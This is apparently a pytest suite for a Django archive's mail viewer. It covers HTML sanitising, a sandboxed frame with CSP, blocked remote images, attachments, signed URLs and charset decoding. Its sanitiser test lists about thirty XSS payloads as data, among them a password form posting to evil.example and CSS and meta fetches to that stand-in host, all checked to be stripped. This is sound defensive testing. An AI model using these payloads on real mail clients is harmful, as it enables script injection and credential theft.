"""Mail in the View tab (issue 3 item 6): headers, the body as text or
sanitised HTML in a sandboxed frame with its own CSP, remote images blocked
until asked for, cid: images and attachments served from the message itself,
an unparseable mail explained — and every route behind the one access check."""

from __future__ import annotations

import re

import pytest
from django.urls import reverse

from archive.mailhtml import body_csp, sanitize_mail_html, text_to_html
from archive.models import ArchiveSettings, Document, FieldDefinition, FieldType, FileRole, PublicAccess
from tests.archive.mail_samples import (
    PNG,
    archive_mail,
    forward_as_body,
    html_mail,
    labelled_mail,
    nested_mail,
    raw_subject_mail,
    sibling_charset_mail,
    text_mail,
)

PART_URL = "/dms/doc/7/mail/part/1.2/"


def clean(html: str, *, allow_remote: bool = False, cids: dict[str, str] | None = None):
    known = {"logo@example.com": PART_URL} if cids is None else cids
    return sanitize_mail_html(
        html, cid_url=known.get, allow_remote=allow_remote, placeholder_url="/static/placeholder.svg"
    )


# --- The sanitiser -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        '<img src="x" onerror="alert(1)">',
        "<body onload=alert(1)>",
        '<div onmouseover="alert(1)">hover</div>',
        '<a href="javascript:alert(1)">click</a>',
        '<a href=" JaVaScRiPt:alert(1)">click</a>',
        '<a href="java&#x09;script:alert(1)">click</a>',
        '<a href="vbscript:msgbox(1)">click</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        '<form action="http://evil.example/steal"><input name="password"><button>Log in</button></form>',
        '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
        '<base href="http://evil.example/">',
        '<link rel="stylesheet" href="http://evil.example/x.css">',
        '<iframe src="http://evil.example/"></iframe>',
        '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">',
        '<svg onload="alert(1)"><script>alert(1)</script></svg>',
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<style>@import url(http://evil.example/x.css); body{background:url(http://evil.example/t.png)}</style>",
        '<p style="background:url(javascript:alert(1))">x</p>',
        '<p style="width: expression(alert(1))">x</p>',
        '<p style="behavior: url(x.htc); -moz-binding: url(http://evil.example/x.xml#x)">x</p>',
        '<p style="background: u\\72l(http://evil.example/t.png)">x</p>',
        "<p style=\"background: image-set('http://evil.example/t.png' 1x)\">x</p>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        '<video poster="http://evil.example/p.png"><source src="http://evil.example/v.mp4"></video>',
        '<table background="http://evil.example/bg.png"><tr><td background="http://evil.example/x">c</td></tr></table>',
        '<img src="x" srcset="http://evil.example/x.png 1x">',
        '<!--[if mso]><img src="http://evil.example/x.png"><![endif]-->',
    ],
)
def test_nothing_that_runs_submits_embeds_or_fetches_survives(payload):
    html = clean(payload).html.lower()
    for needle in (
        "<script",
        "onerror",
        "onload",
        "onmouseover",
        "javascript:",
        "vbscript:",
        "data:",
        "<form",
        "<input",
        "<button",
        "<meta",
        "<base",
        "<link",
        "<iframe",
        "<object",
        "<embed",
        "<svg",
        "<math",
        "<style",
        "<video",
        "<source",
        "<template",
        "<textarea",
        "expression",
        "behavior",
        "binding",
        "evil.example",
        "url(",
        "srcset",
    ):
        assert needle not in html, (payload, html)


def test_the_layout_of_an_ordinary_newsletter_survives():
    html = clean(
        '<table width="600" cellpadding="4" bgcolor="#ffffff" align="center"><tr>'
        '<td style="color:#333; font-family: Arial, sans-serif; padding: 8px" valign="top">'
        '<h1>News</h1><p><b>Bold</b> <font color="red" face="Verdana">red</font></p>'
        '<ul><li>one</li></ul><a href="https://example.com/read?id=1&amp;x=2">Read more</a>'
        "</td></tr></table>"
    ).html
    assert 'width="600"' in html and 'bgcolor="#ffffff"' in html and 'valign="top"' in html
    assert "color:#333" in html and "padding:8px" in html
    assert '<font color="red" face="Verdana">' in html
    assert "<h1>News</h1>" in html and "<li>one</li>" in html


def test_links_open_in_a_new_tab_without_opener_or_referrer():
    html = clean('<a href="https://example.com/">x</a><a href="mailto:bob@example.com">m</a>').html
    assert html.count('target="_blank"') == 2
    assert html.count('rel="noopener noreferrer"') == 2
    assert 'href="https://example.com/"' in html and 'href="mailto:bob@example.com"' in html


def test_relative_links_are_dropped_they_would_point_into_the_archive():
    html = clean('<a href="/dms/doc/1/">x</a><a href="../../">y</a><img src="/static/x.png">').html
    assert "href" not in html and "src" not in html


def test_style_keeps_text_and_box_properties_and_drops_positioning():
    result = clean(
        '<p style="COLOR: Red; position: fixed; top: 0; z-index: 9; margin: 0 auto; '
        "background-color: rgb(1, 2, 3); content: 'x'; cursor: url(x.cur)\">x</p>"
    )
    style = re.search(r'style="([^"]*)"', result.html).group(1)
    assert "color:red" in style.replace(" ", "").lower()
    assert "margin" in style and "background-color" in style
    for gone in ("position", "top", "z-index", "content", "cursor"):
        assert gone not in style


def test_remote_images_become_a_placeholder_and_are_counted():
    result = clean(
        '<img src="https://tracker.example/p.gif" width="1" height="1" alt="pixel">'
        '<img src="//cdn.example/logo.png">'
        '<p style="background: #fff url(https://cdn.example/bg.png)">x</p>'
    )
    assert "tracker.example" not in result.html and "cdn.example" not in result.html
    assert result.html.count('src="/static/placeholder.svg"') == 2
    assert 'alt="pixel"' in result.html  # the placeholder keeps the image's size and text
    assert result.remote_blocked == 3


def test_remote_images_load_only_when_asked_for():
    result = clean(
        '<img src="https://cdn.example/logo.png"><img src="//cdn.example/x.png">'
        '<p style="background: url(https://cdn.example/bg.png)">x</p>',
        allow_remote=True,
    )
    assert 'src="https://cdn.example/logo.png"' in result.html
    assert 'src="https://cdn.example/x.png"' in result.html
    assert "https://cdn.example/bg.png" in result.html
    assert result.remote_blocked == 0
    # Asking for remote images never lets anything else through.
    assert "javascript" not in clean('<img src="javascript:alert(1)">', allow_remote=True).html


def test_cid_images_point_at_the_part_of_the_message():
    result = clean(
        '<img src="cid:logo@example.com"><img src="CID:%3Clogo%40Example.com%3E">'
        '<img src="cid:unknown@example.com">'
        '<td style="background:url(cid:logo@example.com)">x</td>'
    )
    assert result.html.count(f'src="{PART_URL}"') == 2
    assert result.html.count("<img>") == 1  # an unknown Content-ID shows nothing
    assert result.cids_used == {"logo@example.com"}


def test_a_text_body_is_escaped_and_its_links_open_in_a_new_tab():
    html = text_to_html("<script>alert(1)</script> see https://example.com/a?b=1 & <b>x</b>")
    assert "<script" not in html and "&lt;script&gt;" in html and "<b>" not in html
    assert '<a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer">' in html


def _mail_texts(count: int) -> list[str]:
    import email

    from bench.mailgen import MailGenerator

    texts = []
    for generated in MailGenerator(11).mailbox(count):
        for part in email.message_from_bytes(generated.raw).walk():
            if part.get_content_type() == "text/plain" and (payload := part.get_payload(decode=True)):
                texts.append(payload.decode("utf-8", "replace"))
    return texts


def test_linked_text_is_what_urlize_makes_of_a_text():
    """The fast path only skips words urlize would escape: the same string on
    generated mail bodies and on random text of link-like pieces."""
    import random

    from django.utils.html import urlize

    from archive.mailhtml import linked_text

    rnd = random.Random(20261202)
    links = ["https://example.com/a?b=1&c=2.", "(www.example.org)", "alice@example.ch,", "<http://x.net/>", "Bob.NET!"]
    texts = []
    for text in _mail_texts(60):  # mail bodies, links put between their words
        words = text.split(" ")
        for _ in range(5):
            words.insert(rnd.randrange(len(words) + 1), rnd.choice(links))
        texts.append(" ".join(words))
    assert sum(urlize(t, autoescape=True).count("<a ") for t in texts) >= 250
    pieces = [*"ab.@:/ <>\"'&\n\t()[]é-_=?#%;,!\u00a0\u2028", "www.", "WWW.", "http://", "HTTPS://", "mailto:"]
    pieces += ["x.com", ".ORG", ".net/", "a@b.ch", "&amp;", "&lt;", "&#64;", "[::1]", "ftp://", "user@[127.0.0.1]"]
    texts += ["".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 40))) for _ in range(5000)]
    for text in texts:
        assert linked_text(text) == urlize(text, nofollow=False, autoescape=True), text


def test_the_body_policy_allows_remote_images_only_when_asked_for():
    strict = body_csp(allow_remote=False)
    assert "default-src 'none'" in strict and "img-src 'self';" in strict and "http" not in strict
    # Scripts: only the frame-height script, by its hash (no 'self', no inline, no host).
    (scripts,) = [d.strip() for d in strict.split(";") if d.strip().startswith("script-src")]
    assert re.fullmatch(r"script-src 'sha256-[A-Za-z0-9+/=]{44}'", scripts)
    for directive in ("frame-ancestors 'self'", "base-uri 'none'", "form-action 'none'", "sandbox"):
        assert directive in strict
    assert "allow-same-origin" not in strict
    assert "img-src 'self' https: http:" in body_csp(allow_remote=True)


# --- The viewer ----------------------------------------------------------------------------

NEWSLETTER = (
    '<h1>Hello</h1><img src="cid:logo@example.com" alt="logo">'
    '<img src="https://tracker.example/open.gif" alt="t"><script>alert(1)</script>'
)


@pytest.fixture
def mail(group_a) -> Document:
    return archive_mail(html_mail(NEWSLETTER), group_a)


def document_url(doc: Document) -> str:
    return reverse("archive:document", args=[doc.pk])


def body_url(doc: Document) -> str:
    return reverse("archive:mail_body", args=[doc.pk])


def part_url(doc: Document, part: str) -> str:
    return reverse("archive:mail_part", args=[doc.pk, part])


def parts_in(html: str) -> list[str]:
    return re.findall(r"/mail/part/([0-9.]+)/", html)


def process(doc: Document) -> None:
    from archive.processing import mail_document_process

    mail_document_process(doc)
    assert doc.files.filter(role=FileRole.ATTACHMENT).exists()


def test_the_view_tab_shows_the_decoded_headers_and_a_sandboxed_body_frame(client, alice, mail):
    client.force_login(alice)
    page = client.get(document_url(mail)).content.decode()
    assert 'id="mail-from">Jürg Müller &lt;juerg@example.com&gt;' in page
    assert 'id="mail-to">Alice &lt;alice@example.com&gt;, bob@example.com' in page
    assert 'id="mail-cc">Carol &lt;carol@example.com&gt;' in page
    assert 'id="mail-subject">Grüße aus Zürich' in page
    assert 'datetime="2024-03-05T14:30:00+00:00"' in page
    frame = re.search(r"<iframe[^>]*id=\"mail-body\"[^>]*>", page, re.S).group(0)
    assert 'sandbox="allow-scripts allow-popups allow-popups-to-escape-sandbox"' in frame
    assert "allow-same-origin" not in frame  # scripts: only ours, by the body's CSP
    assert f'src="{body_url(mail)}"' in frame
    original = mail.original()
    assert f"{reverse('archive:file', args=[mail.pk, original.pk])}?download=1" in page
    assert "1 remote image blocked" in page
    assert f'href="{body_url(mail)}?remote=1" target="mail-body-{mail.pk}"' in page
    assert "<script>alert(1)" not in page and "tracker.example" not in page


def test_the_body_is_sanitised_and_carries_its_own_strict_policy(client, alice, mail):
    client.force_login(alice)
    response = client.get(body_url(mail))
    assert response.status_code == 200
    html = response.content.decode()
    assert "<h1>Hello</h1>" in html
    assert "<script>alert" not in html and "tracker.example" not in html
    assert response["Content-Security-Policy"] == body_csp(allow_remote=False)
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "no-referrer"
    [inline] = parts_in(html)
    image = client.get(part_url(mail, inline))
    assert image.status_code == 200 and image["Content-Type"] == "image/png"


def test_load_remote_images_is_a_per_request_choice(client, alice, mail):
    client.force_login(alice)
    response = client.get(body_url(mail) + "?remote=1")
    assert 'src="https://tracker.example/open.gif"' in response.content.decode()
    assert "img-src 'self' https: http:" in response["Content-Security-Policy"]
    # The next view blocks them again.
    assert "tracker.example" not in client.get(body_url(mail)).content.decode()


def test_a_mail_with_a_text_alternative_can_be_shown_as_text(client, alice, mail):
    client.force_login(alice)
    assert 'id="mail-show-text"' in client.get(document_url(mail)).content.decode()
    html = client.get(body_url(mail) + "?format=text").content.decode()
    assert '<pre class="mail-text">plain text version' in html and "<h1>" not in html


def test_a_text_mail_is_shown_escaped(client, alice, group_a):
    doc = archive_mail(text_mail("Hi <b>Alice</b>,\n<script>alert(1)</script>\nhttps://example.com"), group_a)
    client.force_login(alice)
    html = client.get(body_url(doc)).content.decode()
    assert "&lt;b&gt;Alice&lt;/b&gt;" in html and "<script>alert" not in html
    assert 'href="https://example.com"' in html


@pytest.mark.parametrize("processed", [False, True], ids=["from-the-eml", "from-extracted-files"])
def test_attachments_are_listed_and_download_as_attachments(client, alice, mail, processed):
    if processed:
        process(mail)
    client.force_login(alice)
    page = client.get(document_url(mail)).content.decode()
    listed = re.search(r'<ul class="mail-attachments".*?</ul>', page, re.S).group(0)
    assert "report.pdf" in listed and "application/pdf" in listed
    assert "shown in the mail" in listed  # the inline logo
    report_part = re.search(r'/mail/part/([0-9.]+)/\?download=1">report.pdf<', listed).group(1)
    response = client.get(part_url(mail, report_part) + "?download=1")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert 'filename="report.pdf"' in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/octet-stream"
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content == b"%PDF-1.4 report"
    # Without ?download=1 a non-image part still never renders in the browser.
    response = client.get(part_url(mail, report_part))
    assert response["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize("processed", [False, True], ids=["from-the-eml", "from-extracted-files"])
def test_inline_images_are_served_from_the_message(client, alice, mail, processed):
    if processed:
        process(mail)
    client.force_login(alice)
    [inline] = parts_in(client.get(body_url(mail)).content.decode())
    response = client.get(part_url(mail, inline))
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content == PNG


def test_an_svg_part_is_never_shown_inline(client, alice, group_a):
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    doc = archive_mail(
        html_mail('<img src="cid:logo@example.com">', inline_cid=None, attachment=("x.svg", "image/svg+xml", svg)),
        group_a,
    )
    client.force_login(alice)
    page = client.get(document_url(doc)).content.decode()
    part = re.search(r'/mail/part/([0-9.]+)/\?download=1">x.svg<', page).group(1)
    response = client.get(part_url(doc, part))
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")


def test_an_unknown_part_is_a_404(client, alice, mail):
    client.force_login(alice)
    assert client.get(part_url(mail, "9.9")).status_code == 404
    assert client.get(reverse("archive:mail_part", args=[mail.pk, "x"])).status_code == 404


def test_an_unparseable_mail_says_why_and_offers_the_raw_file(client, alice, group_a):
    doc = archive_mail(b"\x00\xff garbage without headers", group_a, parse_error="no mail headers found")
    client.force_login(alice)
    page = client.get(document_url(doc)).content.decode()
    problem = re.search(r'<div class="mail-problem".*?</div>', page, re.S).group(0)
    assert "no mail headers found" in problem
    raw_link = f"{reverse('archive:file', args=[doc.pk, doc.original().pk])}?download=1"
    assert raw_link in problem
    raw = client.get(raw_link)
    assert raw["Content-Disposition"].startswith("attachment;")
    assert b"".join(raw.streaming_content) == b"\x00\xff garbage without headers"


def test_a_mail_beyond_the_mime_limits_is_explained(client, alice, group_a, settings):
    settings.MAIL_MAX_MIME_PARTS = 2
    doc = archive_mail(html_mail("<p>many parts</p>"), group_a)
    client.force_login(alice)
    page = client.get(document_url(doc)).content.decode()
    assert "more than 2 MIME parts" in re.search(r'<div class="mail-problem".*?</div>', page, re.S).group(0)
    assert client.get(body_url(doc)).status_code == 200


def test_a_mail_whose_original_is_missing_from_the_store_is_explained(client, alice, mail, settings, tmp_path):
    settings.STORAGE_DIR = tmp_path / "empty-store"
    client.force_login(alice)
    page = client.get(document_url(mail)).content.decode()
    assert "missing from the archive store" in page


def test_mail_routes_refuse_other_documents(client, alice, make_document):
    doc = make_document(content=b"not a mail", name="note.txt")
    client.force_login(alice)
    assert client.get(body_url(doc)).status_code == 404
    assert client.get(part_url(doc, "1")).status_code == 404


@pytest.mark.parametrize("usage", ["documents", "mails", "media"])
def test_an_uploaded_eml_opens_in_the_mail_view_whatever_the_archive_is_for(client, alice, make_document, usage):
    settings = ArchiveSettings.load()
    settings.primary_usage = usage
    settings.save()
    doc = make_document(content=html_mail("<p>uploaded</p>"), name="uploaded.eml")
    client.force_login(alice)
    assert 'id="mail-headers"' in client.get(document_url(doc)).content.decode()
    assert "<p>uploaded</p>" in client.get(body_url(doc)).content.decode()


def test_an_uploaded_eml_fills_its_fields_from_its_headers(make_document):
    doc = make_document(content=html_mail("<p>uploaded</p>"), name="uploaded.eml")
    doc.refresh_from_db()
    assert doc.title == "Grüße aus Zürich"
    assert doc.values["from"] == "Jürg Müller <juerg@example.com>"
    assert doc.values["to"] == "Alice <alice@example.com>, bob@example.com"
    assert doc.values["cc"] == "Carol <carol@example.com>"
    assert doc.values["subject"] == "Grüße aus Zürich"
    assert doc.values["filename"] == "uploaded.eml"
    assert str(doc.values["date"]).startswith("2024-03-05")


def test_values_given_with_an_uploaded_eml_win_over_its_headers(make_document):
    doc = make_document(content=html_mail("<p>x</p>"), name="x.eml", values={"subject": "typed", "title": "Mine"})
    doc.refresh_from_db()
    assert (doc.title, doc.values["subject"], doc.values["from"]) == (
        "Mine",
        "typed",
        "Jürg Müller <juerg@example.com>",
    )


# --- Access ------------------------------------------------------------------------------


def mail_routes(number: int) -> list[str]:
    return [
        reverse("archive:mail_body", args=[number]),
        reverse("archive:mail_body", args=[number]) + "?remote=1",
        reverse("archive:mail_part", args=[number, "1.2"]),
        reverse("archive:mail_part", args=[number, "2"]) + "?download=1",
    ]


def test_bob_gets_404_on_the_mail_routes_exactly_like_a_missing_document(client, bob, mail):
    client.force_login(bob)
    for url, missing_url in zip(mail_routes(mail.pk), mail_routes(mail.pk + 1000), strict=True):
        response, missing = client.get(url), client.get(missing_url)
        assert response.status_code == 404, url
        assert missing.status_code == 404, missing_url
        assert response.content == missing.content


def test_a_logged_out_visitor_is_asked_to_log_in(client, mail):
    for url in mail_routes(mail.pk):
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith(reverse("login") + "?next=")


def test_a_published_mail_opens_without_login_and_every_request_is_logged(client, group_a):
    field = FieldDefinition.objects.create(name="published", label="Published", type=FieldType.YESNO)
    settings = ArchiveSettings.load()
    settings.publish_field = field
    settings.save()
    doc = archive_mail(html_mail(NEWSLETTER), group_a, values={"published": True})
    body = client.get(body_url(doc))
    assert body.status_code == 200 and body["Cache-Control"] == "no-store"
    [inline] = parts_in(body.content.decode())
    image = client.get(part_url(doc, inline))
    assert image.status_code == 200 and image["Cache-Control"] == "no-store"
    assert PublicAccess.objects.filter(document=doc).count() == 2


# The body frame is sandboxed without allow-same-origin: browsers send its image
# requests without the SameSite session cookie, so the body signs its image URLs.


def signed_image_url(client, doc: Document) -> str:
    [url] = re.findall(r'src="(/dms/doc/\d+/mail/part/[0-9.]+/\?t=[^"]+)"', client.get(body_url(doc)).content.decode())
    return url.replace("&amp;", "&")


def test_the_bodys_images_load_without_a_session_through_a_signed_url(client, alice, mail):
    client.force_login(alice)
    url = signed_image_url(client, mail)
    client.logout()
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "image/png"
    # The signature is for images only: the same URL does not download anything.
    assert client.get(url + "&download=1").status_code == 302


def test_a_signed_url_is_bound_to_its_document_and_to_current_access(client, alice, mail, group_a):
    other = archive_mail(html_mail(NEWSLETTER), group_a)
    client.force_login(alice)
    url = signed_image_url(client, mail)
    client.logout()
    token = url.split("?t=")[1]
    [inline] = parts_in(url)
    assert client.get(part_url(other, inline) + f"?t={token}").status_code == 302
    assert client.get(part_url(mail, inline) + "?t=" + token[:-2] + "xx").status_code == 302
    alice.groups.remove(group_a)  # access withdrawn: the signature no longer helps
    assert client.get(url).status_code == 302


def test_a_signed_url_expires(client, alice, mail, monkeypatch):
    from archive import mailview

    client.force_login(alice)
    url = signed_image_url(client, mail)
    client.logout()
    monkeypatch.setattr(mailview, "PART_TOKEN_MAX_AGE", -1)
    assert client.get(url).status_code == 302


def test_a_mail_too_large_to_show_still_shows_its_headers_and_the_raw_file(client, alice, mail, settings):
    settings.MAIL_MAX_MESSAGE_BYTES = 100
    client.force_login(alice)
    page = client.get(document_url(mail)).content.decode()
    assert "too large to show in the browser" in page
    assert 'id="mail-subject">Grüße aus Zürich' in page
    assert f"{reverse('archive:file', args=[mail.pk, mail.original().pk])}?download=1" in page
    assert 'id="mail-body"' not in page


# --- One MIME walk, one decoder ---------------------------------------------------------------


def test_the_mime_walk_yields_every_node_with_its_path_and_depth():
    from email import message_from_bytes

    from archive.mail import MailLimits, walk_mime

    nodes = [
        (n.path, n.depth, n.content_type, n.disposition, n.filename)
        for n in walk_mime(message_from_bytes(html_mail("<p>hi</p>")), MailLimits())
    ]
    assert nodes == [
        ("", 0, "multipart/mixed", "", ""),
        ("1", 1, "multipart/alternative", "", ""),
        ("1.1", 2, "text/plain", "", ""),
        ("1.2", 2, "multipart/related", "", ""),
        ("1.2.1", 3, "text/html", "", ""),
        ("1.2.2", 3, "image/png", "inline", ""),
        ("2", 1, "application/pdf", "attachment", "report.pdf"),
    ]


def test_the_mime_walk_stops_at_its_limits_or_leaves_out_what_is_too_deep():
    from email import message_from_bytes

    from archive.mail import MailLimitExceeded, MailLimits, walk_mime

    msg = message_from_bytes(html_mail("<p>hi</p>"))
    with pytest.raises(MailLimitExceeded, match="more than 6 MIME parts"):
        list(walk_mime(msg, MailLimits(max_parts=6)))
    assert len(list(walk_mime(msg, MailLimits(max_parts=7)))) == 7
    with pytest.raises(MailLimitExceeded, match="deeper than 2"):
        list(walk_mime(msg, MailLimits(max_depth=2)))
    shallow = [n.path for n in walk_mime(msg, MailLimits(max_depth=2), skip_too_deep=True)]
    assert shallow == ["", "1", "1.1", "1.2", "2"]  # 1.2.1 and 1.2.2 left out


@pytest.mark.parametrize(
    "data, charset, text",
    [
        ("Grüße".encode("iso-8859-1"), "iso-8859-1", "Grüße"),
        ("Grüße".encode(), "utf-8", "Grüße"),
        ("Grüße".encode("cp1252"), "no-such-charset", "Grüße"),  # unknown: as if undeclared
        ("Grüße".encode("cp1252"), None, "Grüße"),  # not UTF-8: Windows-1252
        ("Grüße".encode(), None, "Grüße"),
        ("Grüße".encode("utf-8-sig"), None, "Grüße"),
        ("Grüße".encode("utf-16"), None, "Grüße"),
        ("Grüße ".encode() + b"Gr\xc3\x28e", "utf-8", "Grüße Gr\ufffd(e"),  # UTF-8 with a broken byte: replaced
        ("Grüße".encode("cp1252"), "utf-8", "Grüße"),  # labelled UTF-8, written in Windows-1252: guessed
        ("tendrás".encode("latin-1"), "ansi_x3.110-1983", "tendrás"),  # an alias
        ("邮件传输失败！".encode(), "gb2312", "邮件传输失败！"),  # labelled GB2312, written in UTF-8
        ("邮件传输失败！".encode("gb2312"), "gb2312", "邮件传输失败！"),
        ("Узнай как заработать".encode("cp1251"), None, "Узнай как заработать"),  # undeclared Cyrillic
        ("邮件传输失败！".encode("gb2312"), None, "邮件传输失败！"),  # undeclared Chinese
        ("Привет мир, как дела".encode("koi8-r"), None, "Привет мир, как дела"),
    ],
)
def test_one_decoder_reads_declared_charsets_and_guesses_undeclared_ones(data, charset, text):
    from archive.charsets import decode_bytes

    assert decode_bytes(data, charset) == text


def test_a_part_without_a_charset_is_read_in_the_charset_its_sibling_declares():
    from archive.charsets import decode_bytes

    data = "martedì 5 marzo".encode("iso-8859-1")
    assert decode_bytes(data, None, hint="iso-8859-1") == "martedì 5 marzo"


def test_a_body_without_a_charset_reads_the_same_in_the_view_and_in_the_search_text(client, alice, group_a):
    from archive.extractors import extract_text

    headers = b"From: a@example.com\r\nSubject: Offerte\r\nContent-Type: text/plain\r\n\r\n"
    raw = headers + "Grüße, die Offerte für Zürich\r\n".encode("cp1252")
    doc = archive_mail(raw, group_a)
    client.force_login(alice)
    html = client.get(body_url(doc)).content.decode()
    assert "Grüße, die Offerte für Zürich" in html
    assert "Grüße, die Offerte für Zürich" in extract_text(raw, "message/rfc822", "mail.eml")


# --- Real-world shapes (issue 15) -------------------------------------------------------------
# Each is checked as parsed per request and as processing stored it (the view model).

BOTH = pytest.mark.parametrize("processed", [False, True], ids=["from-the-eml", "from-the-stored-view"])


def view_of(client, alice, doc: Document, processed: bool) -> tuple[str, str, list[tuple[str, str, str]]]:
    """(the View tab page, the body frame, the listed attachments as (part, name, class))."""
    from archive.processing import mail_document_process

    if processed:
        mail_document_process(doc)
        assert doc.original().mail_view.schema == 2
    client.force_login(alice)
    page = client.get(document_url(doc)).content.decode()
    body = client.get(body_url(doc)).content.decode()
    listed = re.findall(
        r'<li data-part="([0-9.]+)"( class="mail-attachment-nested"[^>]*)?><a href="[^"]*">([^<]*)</a>', page
    )
    return page, body, [(part, name, "nested" if nested else "") for part, nested, name in listed]


@BOTH
def test_attached_messages_are_offered_under_their_names_and_shown_as_mail(client, alice, group_a, processed):
    doc = archive_mail(nested_mail(), group_a)
    page, body, listed = view_of(client, alice, doc, processed)
    assert listed == [
        ("2", "originalmail.eml", ""),
        ("2.1.2", "DSN57BAC498.txt", "nested"),
        ("3", "original message.eml", ""),
        ("3.1.2", "draft-ietf-mboned-mix-00.txt", "nested"),
    ]  # no part-….txt, no 0-byte part
    assert "Both messages are attached." in body
    # Each attached message below the body, as mail: its headers, then its body.
    sections = re.findall(r'<section class="mail-nested" data-part="([0-9.]+)">(.*?)</section>', body, re.S)
    assert [part for part, _ in sections] == ["2", "3"]
    first = sections[0][1]
    assert "Attached message: originalmail.eml" in first
    assert "MAILER-DAEMON@mx.example.com" in first and "Undelivered Mail Returned to Sender" in first
    assert "The mail could not be delivered." in first
    assert "Here is the draft." in sections[1][1] and "Bob &lt;bob@example.com&gt;" in sections[1][1]


@BOTH
def test_an_attached_message_downloads_as_the_message_it_is(client, alice, group_a, processed):
    from email import message_from_bytes

    doc = archive_mail(nested_mail(), group_a)
    view_of(client, alice, doc, processed)
    response = client.get(part_url(doc, "2") + "?download=1")
    assert 'filename="originalmail.eml"' in response["Content-Disposition"]
    content = b"".join(response.streaming_content) if response.streaming else response.content
    inner = message_from_bytes(content)
    assert inner["Subject"] == "Undelivered Mail Returned to Sender"
    assert [p.get_filename() for p in inner.walk() if p.get_filename()] == ["DSN57BAC498.txt"]
    report = client.get(part_url(doc, "2.1.2") + "?download=1")
    assert 'filename="DSN57BAC498.txt"' in report["Content-Disposition"]
    assert (b"".join(report.streaming_content) if report.streaming else report.content).startswith(b"Reporting-MTA")


@BOTH
def test_a_forward_whose_body_is_the_message_shows_its_headers_and_body(client, alice, group_a, processed):
    doc = archive_mail(forward_as_body(), group_a)
    page, body, listed = view_of(client, alice, doc, processed)
    assert 'id="mail-subject">Fwd: Quarterly figures' in page
    assert "Forwarded message" in body and "Carol &lt;carol@example.com&gt;" in body
    assert "Quarterly figures" in body and "The figures are up 4 %." in body
    assert "no text to show" not in body
    assert [name for _part, name, _c in listed] == ["figures.csv"]


@BOTH
@pytest.mark.parametrize(
    "subject, charset",
    [("邮件传输失败！", "gb2312"), ("Узнай как заработать", "cp1251"), ("Grüße aus Zürich", "cp1252")],
)
def test_raw_8bit_subjects_read_the_same_in_view_search_and_fields(client, alice, group_a, processed, subject, charset):
    from archive.extractors import extract_text
    from archive.mail import parse_headers

    raw = raw_subject_mail(subject, charset)
    doc = archive_mail(raw, group_a)
    page, _body, _listed = view_of(client, alice, doc, processed)
    assert f'id="mail-subject">{subject}<' in page
    assert parse_headers(raw).subject == subject  # what ingestion puts in the fields (the table)
    assert f"Subject: {subject}" in extract_text(raw, "message/rfc822", "mail.eml")  # the search text


@BOTH
def test_an_html_part_without_a_charset_is_read_in_its_siblings_charset(client, alice, group_a, processed):
    from archive.extractors import extract_text

    raw = sibling_charset_mail()
    doc = archive_mail(raw, group_a)
    _page, body, _listed = view_of(client, alice, doc, processed)
    assert "<b>martedì</b>" in body and "\ufffd" not in body
    text_body = client.get(body_url(doc) + "?format=text").content.decode()
    assert "Ci vediamo martedì." in text_body
    assert "martedì" in extract_text(raw, "message/rfc822", "mail.eml")


@BOTH
@pytest.mark.parametrize(
    "text, label, written_in",
    [
        ("邮件传输失败，请稍后再试。", "gb2312", "utf-8"),  # labelled GB2312, written in UTF-8
        ("¿Cuándo tendrás tiempo?", "ansi_x3.110-1983", "latin-1"),  # an unknown label
        ("Grüße aus Zürich", "utf-8", "cp1252"),  # labelled UTF-8, written in Windows-1252
    ],
)
def test_a_body_whose_label_lies_is_read_as_written(client, alice, group_a, processed, text, label, written_in):
    from archive.extractors import extract_text

    raw = labelled_mail(text, label, written_in)
    doc = archive_mail(raw, group_a)
    _page, body, _listed = view_of(client, alice, doc, processed)
    assert text in body
    assert text in extract_text(raw, "message/rfc822", "mail.eml")


def test_a_mail_route_looks_up_the_eml_once(client, alice, mail):
    """The access check finds the .eml (is this shown as a mail?); the view uses
    that, not a second lookup — the body frame's images each make such a request."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(alice)
    for url in (body_url(mail), part_url(mail, "9.9")):
        with CaptureQueriesContext(connection) as queries:
            client.get(url)
        sql = [q["sql"] for q in queries.captured_queries]
        assert sum("archive_documentfile" in s and "original" in s for s in sql) == 1, url
